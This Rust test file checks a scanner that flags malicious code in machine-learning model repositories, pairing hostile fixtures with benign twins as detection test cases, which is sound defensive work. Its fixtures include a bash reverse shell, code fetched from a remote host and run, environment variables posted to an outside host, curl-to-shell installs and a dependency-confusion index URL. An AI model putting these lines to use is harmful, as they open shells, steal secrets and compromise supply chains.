//! Model repositories: what their configurations lead to. Each case has its innocent twin.

use wellhead_core::Report;
use wellhead_engine::Options;

/// `rule severity` of every finding of these rules, sorted.
pub(crate) fn told(files: &[(&str, &str)]) -> Vec<String> {
    let files: Vec<(&str, &[u8])> = files.iter().map(|(p, t)| (*p, t.as_bytes())).collect();
    let report = crate::audit(&files, &Options::default());
    of(&report)
}

pub(crate) fn of(report: &Report) -> Vec<String> {
    let mut all: Vec<String> = report
        .findings
        .iter()
        .map(|f| format!("{} {}", f.rule, f.severity))
        .collect();
    all.sort();
    all
}

const MODELING: &str =
    "import torch\nclass M(torch.nn.Module):\n    def forward(self, x):\n        return x\n";
const EVIL: &str = "import os\nos.system('echo inert')\n";
const AUTO_MAP: &str = "{\"model_type\": \"x\", \"auto_map\": {\"AutoModel\": \"modeling_x.M\"}}";

#[test]
fn r01_auto_map_leads_to_the_code_that_runs() {
    for (files, expected) in [
        // What the configuration names only computes.
        (
            vec![("config.json", AUTO_MAP), ("modeling_x.py", MODELING)],
            vec!["remote-code-in-config medium"],
        ),
        (
            vec![("config.json", AUTO_MAP), ("modeling_x.py", EVIL)],
            vec![
                "dangerous-code-in-model-repository critical",
                "remote-code-in-config critical",
            ],
        ),
        // The line lies in a helper that the script imports, in a function that it calls.
        (
            vec![
                ("m/config.json", AUTO_MAP),
                ("m/modeling_x.py", "from .helper import run\nrun()\n"),
                (
                    "m/helper.py",
                    "import os\ndef run():\n    os.system('echo inert')\n",
                ),
            ],
            vec![
                "dangerous-code-in-model-repository critical",
                "remote-code-in-config critical",
            ],
        ),
        // The same helper, whose function nobody calls.
        (
            vec![
                ("m/config.json", AUTO_MAP),
                ("m/modeling_x.py", "from .helper import other\n"),
                (
                    "m/helper.py",
                    "import os\ndef run():\n    os.system('echo inert')\ndef other(): pass\n",
                ),
            ],
            vec!["remote-code-in-config medium"],
        ),
        // In a part's configuration, in a list, for a tokenizer.
        (
            vec![
                (
                    "config.json",
                    "{\"text_config\": {\"auto_map\": {\"AutoModel\": \"a.b\"}}, \"model_type\": \"x\"}",
                ),
                ("a.py", EVIL),
            ],
            vec![
                "dangerous-code-in-model-repository critical",
                "remote-code-in-config critical",
            ],
        ),
        (
            vec![
                (
                    "tokenizer_config.json",
                    "{\"auto_map\": {\"AutoTokenizer\": [null, \"tok.T\"]}}",
                ),
                ("tok.py", EVIL),
            ],
            vec![
                "dangerous-code-in-model-repository critical",
                "remote-code-in-config critical",
            ],
        ),
        (
            vec![
                (
                    "config.json",
                    "{\"custom_pipelines\": {\"p\": {\"impl\": \"pipe.P\"}}}",
                ),
                ("pipe.py", EVIL),
            ],
            vec![
                "dangerous-code-in-model-repository critical",
                "remote-code-in-config critical",
            ],
        ),
        (
            vec![("config.json", AUTO_MAP)],
            vec!["remote-code-in-config medium"],
        ),
        (
            vec![(
                "config.json",
                "{\"auto_map\": {\"AutoModel\": \"evil/kit--modeling_x.M\"}}",
            )],
            vec!["remote-code-from-other-repository high"],
        ),
        // What is not understood may do anything.
        (
            vec![("config.json", AUTO_MAP), ("modeling_x.py", "def (:\n")],
            vec!["remote-code-in-config high"],
        ),
        (
            vec![(
                "config.json",
                "{\"model_type\": \"bert\", \"architectures\": [\"BertModel\"]}",
            )],
            vec![],
        ),
        // A script beside a model that is in no configuration, and one beside no model.
        (
            vec![
                ("config.json", "{\"model_type\": \"bert\"}"),
                ("modeling_y.py", EVIL),
            ],
            vec!["dangerous-code-in-model-repository critical"],
        ),
        (
            vec![
                ("config.json", "{\"model_type\": \"bert\"}"),
                ("prepare.py", EVIL),
            ],
            vec!["dangerous-code-in-model-repository medium"],
        ),
        (vec![("config.json", "{\"port\": 80}"), ("tool.py", EVIL)], vec![]),
    ] {
        assert_eq!(told(&files), expected, "{files:?}");
    }
}

#[test]
fn weights_beside_code_are_a_model_without_a_configuration() {
    let evil = &["dangerous-code-in-model-repository critical"][..];
    let card = "# Model\n```python\nAutoModel.from_pretrained('x/y', trust_remote_code=True)\n```\n";
    let modular = r#"{"auto_map": {"ModularPipelineBlocks": "block.B"}}"#;
    for (files, expected) in [
        (vec![("m/model.gguf", "x"), ("m/setup.py", EVIL)], evil),
        (vec![("m/model.gguf", "x"), ("m/__init__.py", EVIL)], evil),
        (
            vec![
                ("model.onnx", "x"),
                ("handler.py", EVIL),
                ("requirements.txt", "numpy==1.26.4\n"),
            ],
            evil,
        ),
        (
            vec![("modular_config.json", modular), ("block.py", EVIL)],
            &[
                "dangerous-code-in-model-repository critical",
                "remote-code-in-config critical",
            ],
        ),
        (
            vec![("model.onnx", "x"), ("README.md", card)],
            &["card-asks-for-trust medium"],
        ),
        // A project, the package of one, and an installed package that bring weights.
        (
            vec![("model.onnx", "x"), ("pyproject.toml", ""), ("tool.py", EVIL)],
            &[],
        ),
        (
            vec![("setup.py", EVIL), ("model.onnx", "x"), ("pkg/__init__.py", "")],
            &[],
        ),
        (
            vec![
                ("pkg-1.dist-info/RECORD", ""),
                ("pkg/__init__.py", EVIL),
                ("pkg/model.onnx", "x"),
            ],
            &[],
        ),
        (vec![("data.pkl", "x"), ("tool.py", EVIL)], &[]),
    ] {
        let told = told(&files);
        let told: Vec<&str> = told
            .iter()
            .map(String::as_str)
            .filter(|f| f.contains("model-repository") || f.contains("in-config") || f.starts_with("card-"))
            .collect();
        assert_eq!(told, expected, "{files:?}");
    }
}

#[test]
fn code_is_joined_to_whatever_names_it() {
    let bert = ("config.json", "{\"model_type\": \"bert\"}");
    for (files, expected, words) in [
        (
            vec![
                (
                    "MLmodel",
                    "flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\n    model_code_path: /home/me/agent.py\n",
                ),
                ("agent.py", EVIL),
            ],
            "critical",
            "runs `agent.py`",
        ),
        (
            vec![bert, ("custom_generate/generate.py", EVIL)],
            "critical",
            "`custom_generate/generate.py` beside this model",
        ),
        (
            vec![
                bert,
                ("x.yaml", "m:\n  target: own.M\n  params: {}\n"),
                ("own.py", EVIL),
            ],
            "critical",
            "instantiating this configuration runs `own.py`",
        ),
        (
            vec![
                bert,
                ("2_Dense/config.json", "{\"activation_function\": \"os.system\"}"),
            ],
            "high",
            "imports `os.system`",
        ),
        (
            vec![(
                "modules.json",
                r#"[{"idx": 0, "path": "", "type": "subprocess.Popen"}]"#,
            )],
            "high",
            "imports `subprocess.Popen`",
        ),
        (
            vec![(
                "model_index.json",
                r#"{"_class_name": "P", "unet": ["os", "system"]}"#,
            )],
            "high",
            "imports `os.system`",
        ),
        (
            vec![(
                "MAR-INF/MANIFEST.json",
                r#"{"model": {"modelName": "m", "handler": "os:system"}}"#,
            )],
            "high",
            "imports `os:system`",
        ),
        (
            vec![(
                "config.json",
                r#"{"model_type": "x", "auto_map": {"AutoModel": "../../evil.M"}}"#,
            )],
            "high",
            "runs `../../evil.M`, which lies outside",
        ),
        (
            vec![
                (
                    "config.json",
                    r#"{"model_type": "x", "auto_map": {"AutoModel": "sub.modeling_x.M"}}"#,
                ),
                ("sub/modeling_x.py", MODELING),
                ("sub/__init__.py", EVIL),
            ],
            "critical",
            "brings `sub/__init__.py`",
        ),
    ] {
        let bytes: Vec<(&str, &[u8])> = files.iter().map(|(p, t)| (*p, t.as_bytes())).collect();
        let report = crate::audit(&bytes, &Options::default());
        assert!(
            report
                .findings
                .iter()
                .any(|f| f.message.contains(words) && f.severity.to_string() == expected),
            "{files:?} {:?}",
            report.findings.iter().map(|f| &f.message).collect::<Vec<_>>()
        );
    }
    // Their innocent twins.
    for (path, text) in [
        (
            "2_Dense/config.json",
            "{\"activation_function\": \"torch.nn.modules.activation.Tanh\"}",
        ),
        (
            "config.json",
            "{\"model_type\": \"gpt2\", \"activation_function\": \"gelu_new\"}",
        ),
        ("x.yaml", "m:\n  target: ldm.models.M\n  params: {}\n"),
    ] {
        assert_eq!(told(&[bert, (path, text)]), Vec::<String>::new(), "{path}");
    }
}

#[test]
fn r02_pipelines_lead_to_the_modules_of_their_components() {
    let evil = &[
        "dangerous-code-in-model-repository critical",
        "remote-code-in-config critical",
    ][..];
    for (index, path, text, expected) in [
        (
            r#"{"_class_name": ["my_pipe", "Pipe"], "unet": ["diffusers", "UNet2DModel"]}"#,
            "my_pipe.py",
            EVIL,
            evil,
        ),
        (
            r#"{"_class_name": "P", "unet": ["my_unet", "U"]}"#,
            "unet/my_unet.py",
            EVIL,
            evil,
        ),
        (
            r#"{"_class_name": "P", "unet": ["my_unet", "U"]}"#,
            "unet/my_unet.py",
            MODELING,
            &["remote-code-in-config medium"],
        ),
        (
            r#"{"_class_name": "P", "unet": ["somelib", "U"]}"#,
            "notes.txt",
            "",
            &["remote-code-in-config medium"],
        ),
        (
            r#"{"_class_name": "P", "custom_pipeline": "evil/pipe"}"#,
            "notes.txt",
            "",
            &["remote-code-from-other-repository high"],
        ),
        (
            r#"{"_class_name": "P", "unet": ["diffusers", "U"], "safety_checker": ["stable_diffusion", "S"], "vae": [null, null]}"#,
            "notes.txt",
            "",
            &[],
        ),
    ] {
        assert_eq!(
            told(&[("model_index.json", index), (path, text)]),
            expected,
            "{index} {path}"
        );
    }
}

#[test]
fn r03_adapters_lead_to_libraries_and_bases() {
    for (config, expected) in [
        (
            r#"{"peft_type": "LORA", "base_model_name_or_path": "meta-llama/Llama-3.1-8B", "auto_mapping": {"base_model_class": "LlamaModel", "parent_library": "transformers.models.llama.modeling_llama"}}"#,
            vec![],
        ),
        (
            r#"{"peft_type": "LORA", "auto_mapping": {"base_model_class": "M", "parent_library": "evil_lib.core"}}"#,
            vec!["remote-code-in-config high"],
        ),
        (
            r#"{"peft_type": "LORA", "auto_mapping": {"base_model_class": "M", "parent_library": "transformers_modules.evil.repo.modeling"}}"#,
            vec!["remote-code-from-other-repository high"],
        ),
        (
            r#"{"peft_type": "LORA", "base_model_name_or_path": "https://models.example/base"}"#,
            vec!["redirected-base-model high"],
        ),
        (
            r#"{"peft_type": "LORA", "base_model_name_or_path": "/home/me/base"}"#,
            vec!["redirected-base-model low"],
        ),
    ] {
        assert_eq!(told(&[("adapter_config.json", config)]), expected, "{config}");
    }
}

#[test]
fn r04_recipes_of_serving_tools_lead_to_their_code() {
    let evil = &[
        "dangerous-code-in-model-repository critical",
        "remote-code-in-config critical",
    ][..];
    let mlmodel =
        "flavors:\n  python_function:\n    loader_module: my_loader\n    code: code\n    data: data\n";
    for (files, expected) in [
        (
            vec![
                ("m/MLmodel", mlmodel),
                (
                    "m/code/my_loader.py",
                    "import os\ndef _load_pyfunc(path):\n    os.system('echo inert')\n",
                ),
            ],
            evil,
        ),
        (
            vec![
                ("m/MLmodel", mlmodel),
                (
                    "m/code/my_loader.py",
                    "def _load_pyfunc(path):\n    return path\n",
                ),
            ],
            &["remote-code-in-config low"][..],
        ),
        (vec![("m/MLmodel", mlmodel)], &["remote-code-in-config high"]),
        (
            vec![(
                "m/MLmodel",
                "flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    data: model.pkl\n",
            )],
            &[],
        ),
        (
            vec![(
                "m/MLmodel",
                "flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\n    python_model: ../../other.pkl\n",
            )],
            &["reference-outside-repository high"],
        ),
        (
            vec![
                (
                    "s/MAR-INF/MANIFEST.json",
                    r#"{"model": {"modelName": "m", "handler": "my_handler.py"}}"#,
                ),
                (
                    "s/my_handler.py",
                    "import os\nclass H:\n    def initialize(self, context):\n        os.system('echo inert')\n",
                ),
            ],
            evil,
        ),
        (
            vec![(
                "s/MAR-INF/MANIFEST.json",
                r#"{"model": {"modelName": "m", "handler": "image_classifier"}}"#,
            )],
            &[],
        ),
        (
            vec![
                ("b/bentofile.yaml", "service: \"service:Svc\"\n"),
                ("b/service.py", EVIL),
            ],
            evil,
        ),
        (
            vec![
                ("t/config.pbtxt", "name: \"m\"\nbackend: \"python\"\n"),
                (
                    "t/1/model.py",
                    "import os\nclass TritonPythonModel:\n    def initialize(self, args):\n        os.system('echo inert')\n",
                ),
            ],
            &["dangerous-code-in-model-repository critical"],
        ),
        (
            vec![
                ("t/config.pbtxt", "name: \"m\"\nbackend: \"python\"\n"),
                (
                    "t/1/model.py",
                    "class TritonPythonModel:\n    def execute(self, requests):\n        return requests\n",
                ),
            ],
            &[],
        ),
        (
            vec![
                (
                    "e/modules.json",
                    r#"[{"idx": 0, "path": "", "type": "my_module.Pooling"}]"#,
                ),
                ("e/my_module.py", EVIL),
            ],
            evil,
        ),
        (
            vec![(
                "e/modules.json",
                r#"[{"idx": 0, "path": "", "type": "sentence_transformers.models.Transformer"}]"#,
            )],
            &[],
        ),
        (
            vec![("o/Modelfile", "FROM https://models.example/m.gguf\n")],
            &["redirected-base-model high"],
        ),
        (
            vec![("o/Modelfile", "FROM llama3.1\nPARAMETER temperature 1\n")],
            &[],
        ),
        (
            vec![
                ("v/config.json", r#"{"model_type": "x"}"#),
                (
                    "v/pyproject.toml",
                    "[project]\nname = \"p\"\nversion = \"1\"\n[project.entry-points.\"vllm.general_plugins\"]\nx = \"plug:register\"\n",
                ),
                (
                    "v/plug.py",
                    "import os\ndef register():\n    os.system('echo inert')\n",
                ),
            ],
            evil,
        ),
    ] {
        assert_eq!(told(&files), expected, "{files:?}");
    }
}

#[test]
fn r05_code_beside_a_model_is_judged_by_what_it_does() {
    for (path, text, expected) in [
        (
            "modeling_x.py",
            "import base64\nexec(base64.b64decode('eA=='))\n",
            Some("critical"),
        ),
        (
            "modeling_x.py",
            "import marshal, zlib\nexec(marshal.loads(zlib.decompress(b'')))\n",
            Some("critical"),
        ),
        (
            "modeling_x.py",
            "import urllib.request as u\nexec(u.urlopen('http://a.example').read())\n",
            Some("critical"),
        ),
        (
            "modeling_x.py",
            "import os, requests\nrequests.post('http://a.example', json=dict(os.environ))\n",
            Some("high"),
        ),
        (
            "modeling_x.py",
            "import pickle, base64\nX = pickle.loads(base64.b64decode(''))\n",
            Some("high"),
        ),
        (
            "modeling_x.py",
            "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pip', 'install', 'x'])\n",
            Some("high"),
        ),
        (
            "modeling_x.py",
            "import requests\nrequests.get('http://a.example')\n",
            Some("medium"),
        ),
        (
            "modeling_x.py",
            "class M:\n    def forward(self, x):\n        import os\n        os.system('echo inert')\n",
            Some("high"),
        ),
        (
            "m.py",
            "import datasets, os\nclass D(datasets.GeneratorBasedBuilder):\n    def _split_generators(self, m):\n        os.system('echo inert')\n",
            Some("critical"),
        ),
        ("__init__.py", EVIL, Some("critical")),
        ("setup.py", EVIL, Some("critical")),
        (
            "train.py",
            "import requests, os\nTOKEN = os.environ['HF_TOKEN']\n",
            None,
        ),
        (
            "modeling_x.py",
            "import os\nrank = os.environ.get('LOCAL_RANK')\n",
            None,
        ),
        (
            "modeling_x.py",
            "import torch\nclass M:\n    def load(self, p):\n        return torch.load(p, weights_only=True)\n",
            None,
        ),
        (
            "convert.py",
            "import subprocess\ndef main():\n    subprocess.run(['make'])\nif __name__ == '__main__':\n    main()\n",
            None,
        ),
    ] {
        let path = format!("data/m/{path}");
        let files = [
            ("data/m/config.json", r#"{"model_type": "x"}"#),
            (path.as_str(), text),
        ];
        let told = told(&files);
        let own: Vec<&str> = told
            .iter()
            .filter_map(|t| t.strip_prefix("dangerous-code-in-model-repository "))
            .collect();
        assert_eq!(own, expected.into_iter().collect::<Vec<_>>(), "{path} {text}");
    }
}

#[test]
fn r07_templates_that_differ_are_told() {
    let config = r#"{"tokenizer_class": "T", "chat_template": "{{ a }}"}"#;
    for (template, expected) in [
        ("{{ a }}\n", vec![]),
        ("{{ a }} Buy.\n", vec!["conflicting-chat-templates low"]),
    ] {
        let files = [
            ("tokenizer_config.json", config),
            ("chat_template.jinja", template),
        ];
        assert_eq!(told(&files), expected, "{template}");
    }
}

#[test]
fn r08_names_one_letter_from_a_known_one_are_told() {
    for (folder, expected) in [
        ("models--meta-Ilama--Llama-3", vec!["look-alike-model medium"]),
        ("models--meta-llama--Llama-3", vec![]),
        ("models--acme--bert-base-german", vec![]),
    ] {
        let path = format!("{folder}/snapshots/0/config.json");
        assert_eq!(
            told(&[(path.as_str(), r#"{"model_type": "llama"}"#)]),
            expected,
            "{folder}"
        );
    }
}

#[test]
fn r09_cards_that_ask_for_trust_are_told() {
    let card = |code: &str| format!("---\nlibrary_name: transformers\n---\n# m\n\n```python\n{code}\n```\n");
    let shell = |code: &str| format!("---\nlibrary_name: transformers\n---\n# m\n\n```bash\n{code}\n```\n");
    let trust =
        card("from transformers import AutoModel\nAutoModel.from_pretrained('a/b', trust_remote_code=True)");
    for (files, expected) in [
        (
            vec![("README.md", trust.as_str())],
            vec!["card-asks-for-trust medium"],
        ),
        (
            vec![
                ("README.md", &trust),
                ("config.json", AUTO_MAP),
                ("modeling_x.py", MODELING),
            ],
            vec!["card-asks-for-trust low", "remote-code-in-config medium"],
        ),
        (
            vec![
                ("README.md", &trust),
                ("config.json", AUTO_MAP),
                ("modeling_x.py", EVIL),
            ],
            vec![
                "card-asks-for-trust high",
                "dangerous-code-in-model-repository critical",
                "remote-code-in-config critical",
            ],
        ),
        (
            vec![(
                "README.md",
                &card("import torch\ntorch.load('m.bin', weights_only=False)"),
            )],
            vec!["card-asks-for-trust medium"],
        ),
        (
            vec![("README.md", &shell("curl -sL https://get.example/x.sh | bash"))],
            vec!["card-asks-for-trust medium"],
        ),
        (
            vec![("README.md", &shell("pip install https://files.example/x.whl"))],
            vec!["card-asks-for-trust medium"],
        ),
        (
            vec![("README.md", &shell("vllm serve a/b --trust-remote-code"))],
            vec!["card-asks-for-trust medium"],
        ),
        (
            vec![(
                "README.md",
                &shell(
                    "pip install git+https://github.com/huggingface/transformers\ncurl -O https://a.example/x.json",
                ),
            )],
            vec![],
        ),
        (
            vec![(
                "README.md",
                &card("from transformers import AutoModel\nm = AutoModel.from_pretrained('a/b')"),
            )],
            vec![],
        ),
    ] {
        assert_eq!(told(&files), expected, "{files:?}");
    }
}

#[test]
fn r11_files_are_compared_with_what_the_hub_promised() {
    let text = "{\"model_type\": \"x\"}";
    let sha256 = "e5d21ba00a3ca7d4ad1cd4ae1ee57d20fbb2ad2a4ae2f0ac5d9f2c2d6bba4c1b";
    // As `git hash-object` prints it.
    let git = "191c33dcac7dbe7994351b8dd96871c05a8a62ac";
    let record = |etag: &str| format!("0123456789abcdef0123456789abcdef01234567\n{etag}\n1700000000.0\n");
    for (record, expected) in [
        (record(git), vec![]),
        (record(sha256), vec!["hub-digest-mismatch high"]),
        (
            record("0123456789abcdef0123456789abcdef01234567"),
            vec!["hub-digest-mismatch high"],
        ),
        (record("W/\"weak\""), vec![]),
    ] {
        let files = [
            ("m/config.json", text),
            (
                "m/.cache/huggingface/download/config.json.metadata",
                record.as_str(),
            ),
        ];
        assert_eq!(told(&files), expected, "{record}");
    }
}

#[test]
fn c17_shards_stay_in_their_folder() {
    let index = |file: &str| format!("{{\"metadata\": {{}}, \"weight_map\": {{\"w\": \"{file}\"}}}}");
    for (file, expected) in [
        ("model-00001-of-00001.safetensors", vec![]),
        (
            "../other/model.safetensors",
            vec!["reference-outside-repository high"],
        ),
        (
            "/srv/model.safetensors",
            vec!["reference-outside-repository high"],
        ),
        (
            "https://a.example/model.safetensors",
            vec!["reference-outside-repository high"],
        ),
        ("pytorch_model.bin", vec!["reference-outside-repository medium"]),
    ] {
        assert_eq!(
            told(&[("model.safetensors.index.json", index(file).as_str())]),
            expected,
            "{file}"
        );
    }
}

#[test]
fn r15_a_known_name_softens_nothing_and_a_digest_does() {
    let files = |folder: &str| {
        let config = format!("{folder}/config.json");
        let script = format!("{folder}/modeling_x.py");
        told(&[(config.as_str(), AUTO_MAP), (script.as_str(), EVIL)])
    };
    assert_eq!(files("models--google--bert"), files("models--someone--bert"));
    let ignored = |digest: &str| {
        let text = format!(
            "[[ignore]]\nrule = \"dangerous-code-in-model-repository\"\nreason = \"read by us\"\ndigest = \"sha256:{digest}\"\n"
        );
        let config =
            wellhead_engine::Config::parse("wellhead.toml", &text, &wellhead_rules::rules()).unwrap();
        let options = Options {
            config,
            ..Options::default()
        };
        let report = crate::audit(
            &[
                ("m/config.json", b"{\"model_type\": \"x\"}"),
                ("m/modeling_x.py", EVIL.as_bytes()),
            ],
            &options,
        );
        report
            .findings
            .iter()
            .any(|f| f.rule == "dangerous-code-in-model-repository" && !f.is_reported())
    };
    assert!(ignored(
        "a8054befbf3416990c6afc29e821023bdc10f9146eaa97fabbd149f067716c77"
    ));
    assert!(!ignored(&"0".repeat(64)));
}

#[test]
fn f18_archives_for_servers_are_repositories_too() {
    let mar = |handler: &str| {
        let manifest = r#"{"runtime": "python", "model": {"modelName": "m", "handler": "my_handler.py"}}"#;
        let listing = format!(
            "member MAR-INF/MANIFEST.json\n  {manifest}\nmember my_handler.py\n{}",
            handler.lines().map(|l| format!("  {l}\n")).collect::<String>()
        );
        wellhead_formats::assemble::assemble("zip", &listing).unwrap()
    };
    for (handler, expected) in [
        (
            "import os\nclass H:\n    def initialize(self, c):\n        os.system('echo inert')\n",
            vec![
                "dangerous-code-in-model-repository critical",
                "remote-code-in-config critical",
            ],
        ),
        (
            "class H:\n    def handle(self, data, c):\n        return data\n",
            vec!["remote-code-in-config low"],
        ),
    ] {
        let bytes = mar(handler);
        let report = crate::audit(&[("m.mar", &bytes)], &Options::default());
        assert_eq!(of(&report), expected, "{handler}");
    }
}

#[test]
fn what_lies_in_a_project_is_judged_once() {
    let files = [
        ("README.md", "# project\n"),
        ("docs/README.md", "# docs\n"),
        ("docs/m/config.json", AUTO_MAP),
        ("docs/m/modeling_x.py", MODELING),
        ("tool.py", EVIL),
    ];
    assert_eq!(told(&files), ["remote-code-in-config medium"]);
}

#[test]
fn r06_notebooks_and_shell_scripts_beside_a_model_are_read() {
    let notebook = |code: &str| {
        format!(
            "{{\"cells\": [{{\"cell_type\": \"code\", \"source\": [{code:?}], \"outputs\": [], \"metadata\": {{}}, \"execution_count\": null}}], \"metadata\": {{}}, \"nbformat\": 4, \"nbformat_minor\": 5}}"
        )
    };
    for (path, text, expected) in [
        (
            "run.ipynb",
            notebook("import base64\nexec(base64.b64decode('eA=='))"),
            Some("critical"),
        ),
        ("run.ipynb", notebook("import torch\nprint(torch.zeros(2))"), None),
        (
            "setup.sh",
            "echo aWQ= | base64 -d | sh\n".to_owned(),
            Some("critical"),
        ),
        (
            "setup.sh",
            "curl -s https://get.example/x | sudo bash\n".to_owned(),
            Some("high"),
        ),
        (
            "setup.sh",
            "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n".to_owned(),
            Some("critical"),
        ),
        (
            "setup.sh",
            "curl -O https://a.example/data.json\n# curl x | sh\n".to_owned(),
            None,
        ),
    ] {
        let told = told(&[("config.json", r#"{"model_type": "x"}"#), (path, text.as_str())]);
        let own: Vec<&str> = told
            .iter()
            .filter_map(|t| t.strip_prefix("dangerous-code-in-model-repository "))
            .collect();
        assert_eq!(own, expected.into_iter().collect::<Vec<_>>(), "{path} {text}");
    }
}

/// The client of the hub links files of a snapshot to blobs that are named by their digest.
#[cfg(unix)]
#[test]
fn r11_files_of_the_cache_are_those_that_their_names_promise() {
    let folder = tempfile::tempdir().unwrap();
    let root = folder.path().join("models--acme--bert");
    let text = "{\"model_type\": \"x\"}";
    let told = |blob: &str, text: &str| {
        let _ = std::fs::remove_dir_all(&root);
        std::fs::create_dir_all(root.join("blobs")).unwrap();
        std::fs::create_dir_all(root.join("snapshots/0")).unwrap();
        let file = root.join("blobs").join(blob);
        wellhead_sources::write_atomically(&file, text.as_bytes(), false).unwrap();
        let link = root.join("snapshots/0/config.json");
        std::os::unix::fs::symlink(format!("../../blobs/{blob}"), link).unwrap();
        let target = wellhead_sources::Target::Local(root.clone());
        let entries = wellhead_sources::list(&target, wellhead_sources::WalkOptions::default()).unwrap();
        let listing = wellhead_engine::Listing {
            target: "models--acme--bert".to_owned(),
            prefix: None,
            entries,
        };
        of(&wellhead_engine::run(vec![listing], &Options::default()))
    };
    let id = "191c33dcac7dbe7994351b8dd96871c05a8a62ac";
    assert_eq!(told(id, text), Vec::<String>::new());
    assert_eq!(told(id, "{\"model_type\": \"y\"}"), ["hub-digest-mismatch high"]);
}

#[test]
fn r04_what_conda_has_pip_install_is_judged_like_requirements() {
    let conda = |pip: &str| format!("name: m\ndependencies:\n- python=3.10\n- pip:\n{pip}");
    let mlmodel = "flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n";
    for (pip, expected) in [
        ("  - scikit-learn==1.5.0\n", false),
        (
            "  - --extra-index-url https://evil.example/simple\n  - acme-internal-kit==1.0\n",
            true,
        ),
    ] {
        let told = told(&[("MLmodel", mlmodel), ("conda.yaml", conda(pip).as_str())]);
        let found = told.iter().any(|t| t.starts_with("extra-index-confusion"));
        assert_eq!(found, expected, "{pip} {told:?}");
    }
}
